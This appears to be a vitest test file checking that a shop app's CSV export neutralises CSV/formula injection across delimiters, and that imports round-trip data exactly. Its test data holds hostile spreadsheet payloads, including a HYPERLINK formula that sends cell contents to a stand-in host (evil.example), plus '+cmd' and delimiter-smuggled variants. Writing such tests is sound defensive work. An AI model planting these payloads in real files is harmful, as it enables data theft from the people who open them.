import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { CreatedShop } from '@nines/shared/wire/shop';
import { ask, postAnswer } from '../harness/requests.ts';
import { startTestServer, type TestServer } from '../harness/server.ts';
import { createShop } from '../harness/shops.ts';
import { uuidv7 } from '../harness/uuid.ts';

let server: TestServer;
let shop: CreatedShop;

beforeAll(async () => {
  server = await startTestServer();
});
afterAll(() => server.stop());

const formula = '=HYPERLINK("https://evil.example/?"&A1)';
/** What a shopper writes: each must stay text, whatever the file is opened with. */
const hostile = [
  formula,
  ...['+1', '-1', '@SUM(A1)', '＝1', '＋1', '－1', '＠A1'].map((text) => `${text}+cmd`),
  ...[',', ';', '\t', '|', '\n', '\r', '\r\n'].flatMap((separator) => [
    `nice${separator}${formula}`,
    `nice${separator}  ${formula}`,
    `nice${separator}"${formula}"`,
    `nice${separator}'${formula}`,
    `nice${separator}""${separator}${formula}${separator}-2`,
  ]),
  `"${formula}"`,
  `'${formula}`,
  `''${formula}`,
  ` \u00A0${formula}`,
  `a;\t,${formula}`,
];
/** What looks like it and is no formula. It must not change either. */
const harmless = [
  "it's fine",
  "o'clock",
  'a = b',
  "x,'y'",
  '5 - 3',
  'a@b.example',
  '1+1',
  "'quoted'",
];

const texts = [...hostile, ...harmless];

it('a shopper who writes formulas gets none into a spreadsheet, with any delimiter', async () => {
  shop = await createShop(server);
  await store();
  for (const delimiter of ['comma', 'semicolon', 'tab']) {
    const file = await exportCsv(shop, `?delimiter=${delimiter}`);
    for (const openedWith of [',', ';', '\t', '|']) {
      const dangerous = cellsOf(file, openedWith).filter((cell) =>
        /^[\s"]*[=+\-@＝＋－＠]/.test(cell),
      );
      expect(dangerous).toEqual([]);
    }
  }
});

it.each(['comma', 'semicolon', 'tab'])(
  'and an import of the export with the delimiter %s brings back exactly what they wrote',
  async (delimiter) => {
    shop = await createShop(server);
    const before = await store();
    const body = await exportCsv(shop, `?delimiter=${delimiter}`);
    await server.sql`delete from responses`;
    // The export names the survey, so it is the same shop that takes it back.
    const headers = { 'content-type': 'text/csv' };
    const report = await ask(server, shop, '/v1/imports', { method: 'POST', headers, body });
    expect(report.body).toMatchObject({ stored: texts.length, rejected: 0 });
    expect(await stored()).toEqual(before);
  },
);

it('a file of another program keeps its apostrophes inside of a cell', async () => {
  shop = await createShop(server);
  await ask(server, shop, '/v1/imports', {
    method: 'POST',
    headers: { 'content-type': 'text/csv' },
    body: `date,score,comment\n2026-01-02,9,"he said,'+1'"\n`,
  });
  expect((await stored()).map(({ comment }) => comment)).toEqual(["he said,'+1'"]);
});

async function store() {
  for (const text of texts) {
    const properties = { plan: text, [text.slice(0, 40)]: 'x' };
    const reply = await postAnswer(server, shop, { id: uuidv7(), comment: text, properties });
    expect(reply.status).toBe(201);
  }
  return stored();
}

async function stored(): Promise<{ id: string; comment: string; properties: object }[]> {
  const { body } = await ask(server, shop, '/v1/responses?limit=100');
  return body.responses.map(({ id, comment, properties }: never) => ({ id, comment, properties }));
}

async function exportCsv(of: CreatedShop, query: string): Promise<string> {
  const headers = { accept: 'text/csv' };
  const reply = await ask(server, of, `/v1/responses${query}`, { headers });
  expect(reply.status).toBe(200);
  return reply.body as string;
}

/** All cells, as a program reads them that takes quotation marks inside of a cell as they are. */
function cellsOf(file: string, delimiter: string): string[] {
  const rows = parse(file, {
    bom: true,
    delimiter,
    relax_quotes: true,
    relax_column_count: true,
    skip_records_with_error: true,
  }) as string[][];
  // Some programs end a row at every line break.
  return [...rows.flat(), ...file.split(/[\r\n]+/).flatMap((line) => line.split(delimiter))];
}
